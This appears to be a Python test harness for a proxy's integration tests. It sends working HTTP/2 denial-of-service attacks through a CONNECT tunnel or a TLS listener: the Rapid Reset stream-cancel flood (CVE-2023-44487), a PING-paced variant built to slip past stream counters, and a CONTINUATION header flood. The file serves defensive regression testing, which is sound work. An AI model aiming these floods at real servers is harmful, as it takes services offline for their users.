#!/usr/bin/env python3
"""HTTP/2 attacks against the proxy, with raw frames (Python `h2`/`hyperframe`,
pinned by integration/install-deps), for tests/http2_attack.rs.

  h2_attack.py MODE --proxy HOST:PORT --auth BASIC --target NAME:PORT --ca PEM
               [--tls-listener] [--count N] [--batch N] [--path /hold]

The connection: a CONNECT to NAME:PORT (the proxy intercepts it), then TLS with
the proxy's minted leaf, ALPN h2; or with --tls-listener, TLS to the proxy's
own listener, ALPN h2, and requests for NAME:PORT sent to the proxy
(`--scheme http`, Basic credentials on each).

MODE
  rapid      COUNT streams, each HEADERS + RST_STREAM(CANCEL) at once, in one
             burst (CVE-2023-44487 as published).
  accepted   rounds of BATCH streams: HEADERS, a PING whose ACK shows the proxy
             read them, then RST_STREAM(CANCEL) for each (the variant h2's own
             pending-accept counter cannot see). COUNT rounds at most.
  continuation  one HEADERS without END_HEADERS, then up to COUNT CONTINUATION
             frames of 16 KiB of literal headers each (the CONTINUATION flood).
  get        one ordinary GET of --path; prints its status.

Prints one JSON object: how far the attack got and how the connection ended
(`goaway`: the error code of a GOAWAY received, `closed`: the connection
ended before the attack did).
"""
import argparse, base64, json, socket, ssl, sys, time

import h2.config, h2.connection, h2.events, h2.errors
from hyperframe.frame import ContinuationFrame, HeadersFrame
import hpack

ap = argparse.ArgumentParser()
ap.add_argument("mode", choices=["rapid", "accepted", "continuation", "get"])
ap.add_argument("--proxy", required=True)
ap.add_argument("--auth", default="")
ap.add_argument("--target", required=True)
ap.add_argument("--ca", required=True)
ap.add_argument("--tls-listener", action="store_true")
ap.add_argument("--proxy-name", help="the name in the TLS listener's certificate")
ap.add_argument("--count", type=int, default=1000)
ap.add_argument("--batch", type=int, default=20)
ap.add_argument("--path", default="/hold")
ap.add_argument("--scheme", default="https", help="http: absolute requests to the proxy (TLS listener)")
args = ap.parse_args()

phost, pport = args.proxy.rsplit(":", 1)
name, port = args.target.rsplit(":", 1)


def connect():
    raw = socket.create_connection((phost, int(pport)), timeout=20)
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.set_alpn_protocols(["h2"])
    if args.tls_listener:
        tls = ctx.wrap_socket(raw, server_hostname=args.proxy_name or phost)
    else:
        head = f"CONNECT {name}:{port} HTTP/1.1\r\nHost: {name}:{port}\r\n"
        if args.auth:
            head += f"Proxy-Authorization: Basic {base64.b64encode(args.auth.encode()).decode()}\r\n"
        raw.sendall((head + "\r\n").encode())
        got = b""
        while b"\r\n\r\n" not in got:
            chunk = raw.recv(4096)
            if not chunk:
                sys.exit("proxy closed before answering the CONNECT")
            got += chunk
        if not got.startswith(b"HTTP/1.1 200"):
            sys.exit(f"CONNECT refused: {got[:80]!r}")
        tls = ctx.wrap_socket(raw, server_hostname=name)
    if tls.selected_alpn_protocol() != "h2":
        sys.exit(f"no h2: ALPN {tls.selected_alpn_protocol()!r}")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    tls.sendall(conn.data_to_send())
    return tls, conn


def request_headers(path, method="GET"):
    authority = f"{name}:{port}"
    h = [(":method", method), (":scheme", args.scheme), (":authority", authority), (":path", path)]
    if args.tls_listener and args.auth:
        h.append(("proxy-authorization", "Basic " + base64.b64encode(args.auth.encode()).decode()))
    return h


class Ended(Exception):
    pass


def pump(tls, conn, state, until=None, timeout=10.0):
    """Reads frames until `until(event)` is true, the connection ends, or timeout."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        tls.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            data = tls.recv(65536)
        except socket.timeout:
            return False
        except (ConnectionError, ssl.SSLError, OSError):
            raise Ended()
        if not data:
            raise Ended()
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            raise Ended()
        out = conn.data_to_send()
        if out:
            try:
                tls.sendall(out)
            except (ConnectionError, ssl.SSLError, OSError):
                raise Ended()
        for e in events:
            if isinstance(e, h2.events.ConnectionTerminated):
                state["goaway"] = int(e.error_code)
                raise Ended()
            if isinstance(e, h2.events.ResponseReceived):
                state.setdefault("statuses", []).append(dict(e.headers).get(":status"))
            if until and until(e):
                return True
    return False


def send(tls, data):
    try:
        tls.sendall(data)
    except (ConnectionError, ssl.SSLError, OSError):
        raise Ended()


def main():
    tls, conn = connect()
    state = {"mode": args.mode, "goaway": None, "closed": False, "done": 0}
    try:
        if args.mode == "get":
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, request_headers(args.path), end_stream=True)
            send(tls, conn.data_to_send())
            pump(tls, conn, state, until=lambda e: isinstance(e, h2.events.StreamEnded))
        elif args.mode == "rapid":
            for _ in range(args.count):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, request_headers(args.path), end_stream=True)
                conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                state["done"] += 1
                if state["done"] % 50 == 0:
                    send(tls, conn.data_to_send())
            send(tls, conn.data_to_send())
            # What the proxy says about it (or nothing, within the timeout).
            pump(tls, conn, state, timeout=10)
        elif args.mode == "accepted":
            for _ in range(args.count):
                sids = []
                for _ in range(args.batch):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, request_headers(args.path), end_stream=True)
                    sids.append(sid)
                conn.ping(b"gh-ping!")
                send(tls, conn.data_to_send())
                if not pump(tls, conn, state, until=lambda e: isinstance(e, h2.events.PingAckReceived)):
                    break
                for sid in sids:
                    conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                send(tls, conn.data_to_send())
                state["done"] += 1
            conn.ping(b"gh-last!")
            send(tls, conn.data_to_send())
            pump(tls, conn, state, until=lambda e: isinstance(e, h2.events.PingAckReceived), timeout=10)
        elif args.mode == "continuation":
            enc = hpack.Encoder()
            sid = conn.get_next_available_stream_id()
            first = HeadersFrame(sid, data=enc.encode(request_headers(args.path)), flags=["END_STREAM"])
            send(tls, first.serialize())
            # Literal header field without indexing, new name (RFC 7541 §6.2.2):
            # never enters the table, so every byte is new to the decoder.
            value = b"a" * 120
            field = b"\x00" + bytes([5]) + b"x-pad" + bytes([len(value)]) + value
            block = field * (16000 // len(field))
            for _ in range(args.count):
                send(tls, ContinuationFrame(sid, data=block).serialize())
                state["done"] += 1
            pump(tls, conn, state, timeout=10)
    except Ended:
        state["closed"] = True
    print(json.dumps(state))


main()
